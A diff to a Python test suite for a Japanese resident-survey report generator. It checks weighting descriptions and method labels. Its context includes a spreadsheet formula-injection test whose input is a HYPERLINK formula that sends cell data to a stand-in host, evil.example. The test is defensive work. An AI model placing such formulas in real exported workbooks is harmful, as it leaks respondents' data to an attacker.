@@ -339,6 +339,21 @@ def test_a_question_asked_of_a_handful_is_not_tabulated_and_a_small_headline_is_
     assert "※ 回答者が30人未満：解釈に注意" in page
 
 
+def test_weights_that_fell_back_to_the_design_are_described_as_they_are(session, instrument, load_demo):
+    """12 replies raked to the margins fall back to design weights, all equal without a recorded design: the
+    methods said each respondent "stands for the residents of their sampling stratum", and the composition
+    table that the weighted column "should match" the population (70歳以上: 50.0 against 28.7)."""
+    bundled_margins(session, instrument)
+    rows = [{"kurashiyasui": 1 + i % 4, "age_band": 1 + i % 6, "sex": 1 + i % 2, "district": 1 + i % 3}
+            for i in range(12)]
+    responses.bulk_complete(session, instrument, rows, channel="paper", source="invited")
+    report = build_report(session, instrument, "rake", "ja")
+    weighting = dict(report.methods)["重み付け"]
+    assert weighting.startswith("抽出ウェイト：この案内状には抽出設計が記録されていないため") and "抽出層の住民を代表" not in weighting
+    assert not any(c.weighted_to for c in report.composition)
+    assert "補正後の列は母集団の列と一致しません" in html.unescape(render(report, "html").decode("utf-8"))
+
+
 def test_a_comment_that_looks_like_a_formula_stays_text_in_the_workbook(session, surveyed):
     """A resident's 「=HYPERLINK(…)」 became a live formula in the 自由意見 sheet (openpyxl's default)."""
     typed = ['=HYPERLINK("https://evil.example/?c="&D2,"詳しくはこちら")', "=1+2\x01", "@SUM(A1)"]
@@ -419,8 +434,9 @@ def test_the_report_prints_the_targets_staff_set(session, surveyed):
 @pytest.mark.parametrize("db_url", ["sqlite"], indirect=True)  # the analysis, not the database
 @pytest.mark.parametrize(("replies", "method", "margins", "notice"), [
     (60, "Raking", "Age group", "sparse_margin_dropped"),              # district and sex too sparse
-    (25, "Design weights only", None, "sparse_margin_merged_away"),  # age merged into one cell: no raking at all
-    (10, "Design weights only", None, "weighting_fallback"),
+    # age merged into one cell: no raking at all; and the demo records no design, so every weight is equal
+    (25, "Design weights: no sampling design is recorded", None, "sparse_margin_merged_away"),
+    (10, "Design weights: no sampling design is recorded", None, "weighting_fallback"),
 ])
 def test_the_methods_name_the_margins_and_method_the_weights_were_made_by(session, instrument, load_demo,
                                                                           replies, method, margins, notice):
